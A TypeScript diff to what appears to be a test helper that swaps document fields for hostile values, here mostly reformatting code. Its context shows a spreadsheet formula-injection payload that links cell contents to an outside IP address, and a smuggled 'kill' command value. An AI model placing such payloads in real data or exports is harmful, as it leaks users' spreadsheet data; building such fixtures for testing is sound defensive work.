@@ -7,7 +7,22 @@ export const NASTY = {
   formula: '=HYPERLINK("http://192.0.2.9/"&A1,"x")',
 } as const
 
-const TEXTS = new Set(['name', 'process', 'unit', 'user', 'summary', 'evidence', 'fix', 'sentence', 'paragraph', 'note', 'text', 'chip', 'state', 'host'])
+const TEXTS = new Set([
+  'name',
+  'process',
+  'unit',
+  'user',
+  'summary',
+  'evidence',
+  'fix',
+  'sentence',
+  'paragraph',
+  'note',
+  'text',
+  'chip',
+  'state',
+  'host',
+])
 
 function nasty(key: string, index: number): string {
   if (key === 'name') return index % 2 === 0 ? NASTY.formula : NASTY.control
@@ -22,7 +37,8 @@ export function hostile<T>(document: T, index = 0): T {
     Object.entries(document).map(([key, value]) => {
       if (key === 'health') return [key, value]
       if (typeof value === 'string' && TEXTS.has(key)) return [key, nasty(key, index)]
-      if (key === 'commands' && Array.isArray(value) && typeof value[0] === 'string') return [key, [`kill ${NASTY.control}`]]
+      if (key === 'commands' && Array.isArray(value) && typeof value[0] === 'string')
+        return [key, [`kill ${NASTY.control}`]]
       return [key, hostile(value as unknown, index)]
     }),
   ) as T
